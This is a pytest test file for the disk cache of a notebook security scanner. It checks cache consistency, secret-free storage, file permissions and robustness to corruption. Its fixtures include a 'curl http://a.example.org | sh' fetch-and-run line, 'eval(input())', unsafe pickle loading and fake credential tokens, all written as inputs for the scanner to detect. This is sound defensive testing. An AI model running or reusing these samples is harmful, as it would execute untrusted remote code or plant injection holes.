"""The disk cache: what it gives back is what a check would say, it holds no secret, and nothing that is wrong with it shows."""

# Fixtures that prepare the ground are asked for by name alone.
# ruff: noqa: ARG001

from __future__ import annotations

import dataclasses
import json
import multiprocessing
import os
import random
import sqlite3
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from notebooks import code, display, markdown, notebook, stream
from tokens import credential, fill, make

import jupyter_mlsecops
from jupyter_mlsecops.entrypoints import checking, cli, files, result_cache, scanning
from jupyter_mlsecops.entrypoints.checking import DATED_RULES, Outcome
from jupyter_mlsecops.entrypoints.files import Source
from jupyter_mlsecops.entrypoints.result_cache import ResultCache, open_cache
from jupyter_mlsecops.findings import Confidence, Problem, Severity
from jupyter_mlsecops.rules import all_rules
from jupyter_mlsecops.settings import Settings
from jupyter_mlsecops.wire import FileResult

PICKLE = "import pickle\nmodel = pickle.load(f)"
EXAMPLES = Path(__file__).parent.parent / "examples"
CORPUS = EXAMPLES.parent.parent / "shared" / "corpus"
SECRETS = ("github", "hugging-face", "openai", "anthropic")

needs_posix = pytest.mark.skipif(os.name != "posix", reason="needs POSIX")


@pytest.fixture
def store(tmp_path_factory, monkeypatch) -> Path:
    """A folder for a cache that is none of the scanned ones."""
    folder = tmp_path_factory.mktemp("store") / "jupyter-mlsecops"
    monkeypatch.setattr("platformdirs.user_cache_path", lambda *_, **__: folder)
    monkeypatch.setattr("platformdirs.user_config_path", lambda *_, **__: folder / "no-such-folder")
    return folder


@pytest.fixture
def tree(tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.ipynb").write_bytes(notebook(PICKLE, "!pip install numpy"))
    (tmp_path / "b.ipynb").write_bytes(notebook("x = 1"))
    (tmp_path / "broken.ipynb").write_text("{")
    (tmp_path / "requirements.txt").write_text("numpy\n")
    return tmp_path


@pytest.fixture
def scan(store, capsys):
    """Runs `scan`; gives exit code, output without the time it took, and errors."""

    def run(*arguments: str) -> tuple[int, object, str]:
        code = cli.main(["scan", "--format", "json", "--jobs", "1", *arguments])
        out, err = capsys.readouterr()
        document = json.loads(out)
        document["summary"].pop("seconds")
        return code, document, err

    return run


@pytest.fixture
def checks(monkeypatch) -> list[str]:
    """The names of the files that were checked, not remembered."""
    names: list[str] = []
    real = checking.check_file

    def check_file(source: Source, *rest: object) -> Outcome:
        names.append(source.name)
        return real(source, *rest)

    monkeypatch.setattr(checking, "check_file", check_file)
    return names


def database(store: Path) -> Path:
    (path,) = store.iterdir()
    return path


def settings(root: Path, **fields) -> Settings:
    return Settings(working_directory=str(root), **fields)


def opened(root: Path, **fields) -> ResultCache:
    cache = open_cache(["."], settings(root, **fields))
    assert cache is not None
    return cache


def results(root: Path, cache: ResultCache | None, **fields) -> list[FileResult]:
    chosen = settings(root, **fields)
    return scanning.check_all(files.find(["."], chosen), chosen, jobs=1, cache=cache)


# -- the same, cached or not -------------------------------------------------------------------------------------------


def test_a_second_scan_says_the_same_and_checks_nothing(tree, scan, checks):
    plain = scan("--no-cache")
    assert plain[0] == 2
    assert scan() == plain
    checks.clear()
    assert scan() == scan() == plain
    assert checks == []


@pytest.mark.parametrize("arguments", [["--format", "text", "--statistics", "--show-info"], ["--format", "text", "-q"]])
def test_the_text_report_is_the_same(tree, store, capsys, arguments):
    def run(*further: str) -> tuple[int, list[str], str]:
        exit_code = cli.main(["scan", *arguments, *further, "."])
        out, err = capsys.readouterr()
        return exit_code, [line.rpartition(", ")[0] if " cells" in line else line for line in out.splitlines()], err

    assert run("--no-cache") == run() == run()


@pytest.mark.skipif(not EXAMPLES.is_dir(), reason="the examples are not there")
def test_the_examples(scan, checks):
    plain = scan("--no-cache", str(EXAMPLES))
    assert plain[1]["findings"]
    assert scan(str(EXAMPLES)) == plain
    checks.clear()
    assert scan(str(EXAMPLES)) == plain
    assert checks == []


@pytest.mark.skipif(not CORPUS.is_dir(), reason="the corpus is not there")
def test_a_part_of_the_corpus(store, checks):
    paths = random.Random(4).sample(sorted(CORPUS.rglob("*.ipynb")), 60)
    chosen = settings(CORPUS)
    items = files.find([str(path) for path in paths], chosen)
    plain = scanning.check_all(items, chosen, jobs=1)
    first = scanning.check_all(items, chosen, jobs=2, cache=opened(CORPUS))
    checks.clear()
    assert scanning.check_all(items, chosen, jobs=2, cache=opened(CORPUS)) == first == plain
    assert checks == []


pieces = st.sampled_from([
    PICKLE, "!pip install numpy", "eval(input())", "x = (", "import torch\ntorch.load(p)  # mlsecops: ignore", "\ud800", "é\u202e",
    fill("key = '{{token:github}}'"), fill("key = '{{credential:jwt}}'"), "%%bash\ncurl http://a.example.org | sh",
])  # fmt: skip
cells = st.one_of(pieces.map(code), pieces.map(markdown), pieces.map(lambda text: code("1", outputs=[stream(text)])))
contents = st.one_of(st.lists(cells, max_size=4).map(lambda given: notebook(*given)), st.binary(max_size=30))


@hypothesis_settings(max_examples=50, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(st.lists(contents, min_size=1, max_size=4), st.sampled_from([{}, {"min_severity": Severity.HIGH}]))
def test_made_notebooks(store, tmp_path, made, fields):
    for number, content in enumerate(made):
        (tmp_path / f"{number}.ipynb").write_bytes(content)
    plain = results(tmp_path, None, **fields)
    assert results(tmp_path, opened(tmp_path, **fields), **fields) == plain
    assert results(tmp_path, opened(tmp_path, **fields), **fields) == plain


# -- what makes a result another one -----------------------------------------------------------------------------------


def test_an_edited_file_is_checked_anew(tree, scan, checks):
    scan()
    checks.clear()
    state = (tree / "b.ipynb").stat()
    (tree / "b.ipynb").write_bytes((tree / "b.ipynb").read_bytes().replace(b"x = 1", b"x = 2"))
    os.utime("b.ipynb", ns=(state.st_atime_ns, state.st_mtime_ns))
    assert scan() == scan("--no-cache", "--isolated")
    assert checks[0] == "b.ipynb"
    assert len(checks) == 1 + 4


def test_the_same_content_under_another_name(tree, scan, checks):
    scan("a.ipynb")
    (tree / "c.ipynb").write_bytes((tree / "a.ipynb").read_bytes())
    assert {finding["path"] for finding in scan("c.ipynb")[1]["findings"]} == {"c.ipynb"}
    assert checks == ["a.ipynb", "c.ipynb"]


OTHER_SETTINGS = {
    "select": ("secrets",), "ignore": ("unpinned-package",), "min_severity": Severity.HIGH,
    "min_confidence": Confidence.HIGH, "per_file_ignores": {"*.ipynb": ("packages",)},
    "severity": {"unpinned-package": Severity.HIGH}, "engines": ("bandit",), "trusted_owners": ("acme",),
    "trusted_indexes": ("https://pypi.example.org",), "trusted_hosts": ("example.org",), "max_file_size": 10,
    "suppressions": False, "working_directory": "elsewhere",
}  # fmt: skip
SAME_RESULTS = {"exclude": ("old",), "include": ("*.py",), "fail_on": None}


def test_every_setting_is_in_the_key_or_changes_no_result(store, tmp_path):
    plain = settings(tmp_path)
    context = open_cache(["."], plain).keys.context
    assert {field.name for field in dataclasses.fields(Settings)} == {*OTHER_SETTINGS, *SAME_RESULTS}
    for name, value in OTHER_SETTINGS.items():
        assert open_cache(["."], dataclasses.replace(plain, **{name: value})).keys.context != context, name
    for name, value in SAME_RESULTS.items():
        assert open_cache(["."], dataclasses.replace(plain, **{name: value})).keys.context == context, name


@pytest.mark.parametrize(
    "options",
    [["--select", "unsafe-pickle-load"], ["--min-severity", "high"], ["--ignore", "packages"], ["--fail-on", "never"], ["--no-ignores"]],
)  # fmt: skip
def test_options_change_what_is_said(tree, scan, options):
    (tree / "c.ipynb").write_bytes(notebook(PICKLE + "  # mlsecops: ignore"))
    scan()
    assert scan(*options) == scan(*options) == scan("--no-cache", *options)


def test_a_configuration_file_changes_what_is_said(tree, scan):
    before = scan()
    (tree / ".jupyter-mlsecops.toml").write_text('severity = {unpinned-package = "off"}')
    assert scan() == scan("--no-cache") != before


def test_an_edit_of_the_tool_or_of_its_knowledge_forgets_all(tmp_path, monkeypatch, store):
    package = tmp_path / "package"
    (package / "entrypoints").mkdir(parents=True)
    (package / "knowledge").mkdir()
    table = package / "knowledge" / "t.toml"
    table.write_text("a = 1")
    monkeypatch.setattr(result_cache, "__file__", str(package / "entrypoints" / "result_cache.py"))
    before = opened(tmp_path / "x").keys
    assert opened(tmp_path / "x").keys == before
    table.write_text("a = 22")
    changed = opened(tmp_path / "x").keys
    assert changed != before
    (package / "new.py").touch()
    assert opened(tmp_path / "x").keys not in {before, changed}
    monkeypatch.setattr(result_cache, "__version__", "0.0.0")
    assert opened(tmp_path / "x").keys not in {before, changed}


def test_the_path_and_the_content_cannot_be_taken_for_each_other(store, tmp_path):
    keys = opened(tmp_path).keys
    assert len({keys.key(b"bc", "a"), keys.key(b"c", "ab"), keys.key(b"abc", "")}) == 3
    assert keys.key(b"", "\udcff")


# -- what is not kept --------------------------------------------------------------------------------------------------


def test_what_went_wrong_is_tried_again(tree, scan, monkeypatch):
    def starved(*_, **__):
        raise MemoryError

    def half_broken(*arguments, **options):
        problem = Problem(path="", kind="rule-failed", message="a rule failed")
        return dataclasses.replace(real(*arguments, **options), problems=(problem,))

    real = checking.lint
    good = scan("--no-cache")
    with monkeypatch.context() as patch:
        patch.setattr(sys.modules[real.__module__], "read_file", starved)
        assert {each["message"] for each in scan()[1]["problems"]} == {"could not be checked: MemoryError"}
    for owner, name, failing in (
        (checking, "lint", starved),
        (checking, "lint", half_broken),
        (files, "read", starved),
    ):
        with monkeypatch.context() as patch:
            patch.setattr(owner, name, failing)
            assert len(scan()[1]["problems"]) == 4
    assert scan() == good


def test_a_file_that_cannot_be_read_is_tried_again(tree, scan, monkeypatch):
    good = scan("--no-cache", "a.ipynb")
    real = files.read

    def read(source, settings):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(files, "read", read)
    assert scan("a.ipynb")[1]["problems"][0]["message"] == "permission denied"
    monkeypatch.setattr(files, "read", real)
    assert scan("a.ipynb") == good
    (tree / "a.ipynb").unlink()
    assert scan("a.ipynb")[1]["problems"][0]["message"] == "no such file or folder"


def test_rules_that_ask_for_the_time_are_known():
    asking = {rule.id for rule in all_rules().values() if hasattr(sys.modules[rule.check.__module__], "clock")}
    assert asking == DATED_RULES


def test_what_depends_on_the_day_holds_for_the_day(tree, scan, checks, monkeypatch):
    token = credential("jwt")
    (tree / "a.ipynb").write_bytes(notebook(f"key = '{token}'"))
    assert "is in clear" in scan("a.ipynb")[1]["findings"][0]["message"]
    checks.clear()
    scan("a.ipynb", "b.ipynb")
    assert checks == ["b.ipynb"]
    monkeypatch.setattr("time.time", lambda: 4_100_000_000.0)
    assert "has expired" in scan("a.ipynb", "b.ipynb")[1]["findings"][0]["message"]
    assert checks == ["b.ipynb", "a.ipynb"]


@pytest.mark.parametrize("option", ["--fix", "--diff", "--no-cache"])
def test_runs_that_have_no_use_for_it(tree, store, capsys, option):
    cli.main(["scan", option, "--jobs", "1", "a.ipynb"])
    assert not store.exists()


def test_standard_input_is_not_kept(tree, store, monkeypatch, capsys):
    import io

    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(notebook(PICKLE))))
    cli.main(["scan", "-"])
    assert b"pickle" not in b"".join(path.read_bytes() for path in store.iterdir())


def test_an_interrupted_run_keeps_what_it_has(tree, store, scan, monkeypatch):
    real = checking.check_file
    with monkeypatch.context() as patch:

        def check_file(source, *rest):
            if source.name == "b.ipynb":
                raise KeyboardInterrupt
            return real(source, *rest)

        patch.setattr(checking, "check_file", check_file)
        assert cli.main(["scan", "--jobs", "1", "."]) == cli.INTERRUPTED
    with sqlite3.connect(database(store)) as connection:
        assert 0 < connection.execute("SELECT count(*) FROM results").fetchone()[0] < 4
    connection.close()


# -- secrets and privacy -----------------------------------------------------------------------------------------------


def test_it_never_holds_a_secret(tree, store, scan):
    secrets = [make(kind) for kind in SECRETS] + [credential("password"), credential("jwt"), credential("pem-body")]
    lines = [f'password = "{secrets[4]}"', f"token = '{secrets[5]}'", fill("key = '''{{credential:pem}}'''")]
    (tree / "a.ipynb").write_bytes(
        notebook(
            *[f"key = '{secret}'" for secret in secrets[:4]],
            *lines,
            markdown(f"the key {secrets[0]}"),
            code("x", outputs=[stream(secrets[1]), display({"text/html": f"<b>{secrets[2]}</b>"})], tags=[secrets[3]]),
            metadata={"key": secrets[0]},
        )
    )
    (tree / f"{secrets[0]}.ipynb").write_bytes(notebook(f"key = '{secrets[0]}'\neval(input())"))
    findings = scan()[1]["findings"]
    assert {finding["rule"] for finding in findings} >= {"provider-token", "hardcoded-credential", "private-key"}
    held = database(store).read_bytes()
    assert b"unsafe-pickle-load" not in held
    assert b"provider-token" in held
    for secret in secrets:
        for line in secret.splitlines():
            assert line.encode() not in held


@needs_posix
def test_only_its_owner_may_read_it(tree, store, scan):
    before = os.umask(0)
    try:
        scan()
    finally:
        os.umask(before)
    assert store.stat().st_mode & 0o777 == 0o700
    assert database(store).stat().st_mode & 0o777 == 0o600


# -- where it stands ---------------------------------------------------------------------------------------------------


def test_it_is_never_part_of_what_is_scanned(tree, tmp_path, monkeypatch):
    def place(folder: Path) -> None:
        monkeypatch.setattr("platformdirs.user_cache_path", lambda *_, **__: folder)

    (tree / "sub").mkdir()
    (tree / "other").mkdir()
    place(tree / "sub" / "store")
    for paths in (["."], [str(tree)], ["sub"], ["sub/a.ipynb"], ["a.ipynb"], []):
        assert open_cache(paths, settings(tree)) is None, paths
    assert open_cache(["sub/../sub/deep"], settings(tree / "sub")) is None
    assert open_cache(["../b.ipynb"], settings(tree / "other")) is None
    assert open_cache(["../other"], settings(tree / "other")) is not None
    monkeypatch.setenv("HOME", str(tree))
    assert open_cache(["other"], settings(tree)) is not None
    assert open_cache(["."], settings(tree)) is None


@needs_posix
def test_a_folder_that_is_no_private_one_is_left_alone(tree, store, scan):
    good = scan("--no-cache")
    store.mkdir()
    store.chmod(0o777)
    assert scan() == good
    assert list(store.iterdir()) == []
    store.chmod(0o700)
    assert scan() == good
    database(store).chmod(0o666)
    assert open_cache(["."], settings(tree)) is None
    path = database(store).rename(tree / "moved")
    (store / "results-1.sqlite3").symlink_to(path)
    assert open_cache(["."], settings(tree)) is None
    assert scan() == good


@pytest.mark.parametrize("place", ["a.ipynb", "a.ipynb/x", os.devnull, "nul\0l"])
def test_a_place_where_nothing_can_be_written(tree, scan, monkeypatch, place):
    monkeypatch.setattr("platformdirs.user_cache_path", lambda *_, **__: Path(place))
    monkeypatch.chdir(tree)
    assert scan() == scan() == scan("--no-cache")


def test_nobody_is_at_home(tree, scan, monkeypatch):
    def homeless(*_, **__):
        raise RuntimeError

    monkeypatch.setattr("platformdirs.user_cache_path", homeless)
    assert scan() == scan("--no-cache")


def test_a_package_that_has_no_files(tree, scan, monkeypatch):
    monkeypatch.setattr(result_cache, "__file__", "archive.zip/jupyter_mlsecops/entrypoints/result_cache.py")
    assert open_cache(["."], settings(tree)) is None
    assert scan() == scan("--no-cache")


# -- what is wrong with the file ---------------------------------------------------------------------------------------


def damages(content: bytes) -> dict[str, bytes]:
    draw = random.Random(5)
    garbled = bytearray(content)
    for _ in range(300):
        garbled[draw.randrange(len(garbled))] ^= 1 << draw.randrange(8)
    return {
        "empty": b"",
        "no database": b"\0" * 5000,
        "text": b"SQLite format 3\0" + b"x" * 4000,
        "cut": content[: len(content) // 2],
        "cut in the head": content[:50],
        "garbled": bytes(garbled),
        "no head": b"\0" * 100 + content[100:],
        "values": content.replace(b"pickle", b"jickle"),
        "names": content.replace(b"CREATE TABLE results", b"CREATE TABLE resolts"),
    }


@pytest.mark.parametrize("damage", damages(b"x" * 100))
def test_a_damaged_file_says_nothing_wrong(tree, store, scan, checks, damage):
    (tree / "a.ipynb").write_bytes(notebook(*[PICKLE] * 30))
    good = scan()
    path = database(store)
    path.write_bytes(damages(path.read_bytes())[damage])
    assert scan() == good
    assert scan() == good
    checks.clear()
    assert scan() == good
    assert checks == []


@pytest.mark.parametrize("seed", range(30))
def test_a_bit_here_and_there(tree, store, scan, seed):
    good = scan("a.ipynb", "b.ipynb")
    draw = random.Random(seed)
    content = bytearray(database(store).read_bytes())
    for _ in range(40):
        content[draw.randrange(len(content))] = draw.randrange(256)
    database(store).write_bytes(content)
    assert scan("a.ipynb", "b.ipynb") == scan("a.ipynb", "b.ipynb") == good


def test_a_table_of_another_form(tree, store, scan, checks):
    good = scan()
    path = database(store)
    path.unlink()
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE results (other TEXT)")
    connection.close()
    path.chmod(0o600)
    assert scan() == good
    assert scan() == good
    checks.clear()
    assert scan() == good
    assert checks == []


def test_a_value_of_another_key_is_not_taken(tree, store, scan):
    good = scan()
    with sqlite3.connect(database(store)) as connection:
        rows = connection.execute("SELECT key, value FROM results").fetchall()
        values = [value for _, value in rows]
        for (key, _), value in zip(rows, values[1:] + values[:1], strict=True):
            connection.execute("UPDATE results SET value = ? WHERE key = ?", (value, key))
    connection.close()
    assert scan() == good


def test_a_file_that_somebody_else_uses(tree, store, scan, monkeypatch):
    monkeypatch.setattr(result_cache, "_SECONDS_TO_WAIT", 0.05)
    good = scan()
    connection = sqlite3.connect(database(store), isolation_level=None)
    connection.execute("BEGIN EXCLUSIVE")
    (tree / "c.ipynb").write_bytes(notebook(PICKLE))
    assert scan("a.ipynb", "b.ipynb", "broken.ipynb", "requirements.txt") == good
    assert scan() == scan("--no-cache")
    connection.execute("ROLLBACK")
    connection.close()
    assert scan() == scan("--no-cache")


# -- many, and much ----------------------------------------------------------------------------------------------------


def outcome(number: int, size: int) -> Outcome:
    result = FileResult(path=f"{number}", diff=random.Random(number).randbytes(size // 2).hex())
    return Outcome(result=result, key=number.to_bytes(20, "big"))


def test_it_is_bounded_and_the_least_recently_used_go_first(store, tmp_path, monkeypatch):
    cache = dataclasses.replace(opened(tmp_path), max_bytes=1_000_000)
    everything = [outcome(number, 10_000) for number in range(150)]
    keys = [each.key for each in everything]
    day = 20_000.0
    for number, each in enumerate(everything):
        monkeypatch.setattr("time.time", lambda: (day + number) * 86_400)  # noqa: B023
        cache.store([each], used=keys[:1])
        assert database(store).stat().st_size < 1_100_000
    kept = cache.load(keys)
    assert keys[0] in kept
    assert set(keys[-40:]) <= set(kept)
    assert keys[1] not in kept
    assert all(kept[each.key] == each.result for each in everything if each.key in kept)


def test_one_run_does_not_fill_it_beyond_its_bound(store, tmp_path):
    cache = dataclasses.replace(opened(tmp_path), max_bytes=100_000)
    cache.store(outcome(number, 10_000) for number in range(100))
    assert 3 <= len(cache.load(number.to_bytes(20, "big") for number in range(100))) <= 5
    cache.store([outcome(101, 200_000)])
    assert cache.load([(101).to_bytes(20, "big")]) == {}


def _store_many(cache: ResultCache, first: int) -> None:
    for number in range(first, first + 20):
        cache.store([outcome(number, 2_000)])
        cache.load(each.to_bytes(20, "big") for each in range(100))


def test_many_processes_at_once(store, tmp_path):
    cache = opened(tmp_path)
    context = multiprocessing.get_context("spawn")
    others = [context.Process(target=_store_many, args=(cache, 20 * number)) for number in range(3)]
    for other in others:
        other.start()
    for other in others:
        other.join()
    assert [other.exitcode for other in others] == [0, 0, 0]
    kept = cache.load(number.to_bytes(20, "big") for number in range(60))
    assert kept  # who has to wait for too long goes without
    assert all(result == outcome(int.from_bytes(key, "big"), 2_000).result for key, result in kept.items())


def test_what_is_served_needs_no_rules(tree, store):
    import subprocess

    program = (
        "import sys\n"
        "from jupyter_mlsecops.entrypoints import cli\n"
        "code = cli.main(['scan', '--format', 'json', '--select', 'secrets,unpinned-package', '.'])\n"
        "heavy = {'re2', 'jupyter_mlsecops.lint', 'jupyter_mlsecops.rules.hub_code', 'multiprocessing', 'nbformat'}\n"
        "print(sorted(heavy & set(sys.modules)), code, file=sys.stderr)\n"
    )
    home = Path(jupyter_mlsecops.__file__).parent.parent
    environment = os.environ | {"XDG_CACHE_HOME": str(store.parent), "PYTHONPATH": str(home)}
    outputs = [
        subprocess.run([sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=True)
        for _ in range(2)
    ]
    assert "jupyter_mlsecops.lint" in outputs[0].stderr
    assert "[] 2" in outputs[1].stderr or sys.platform != "linux"
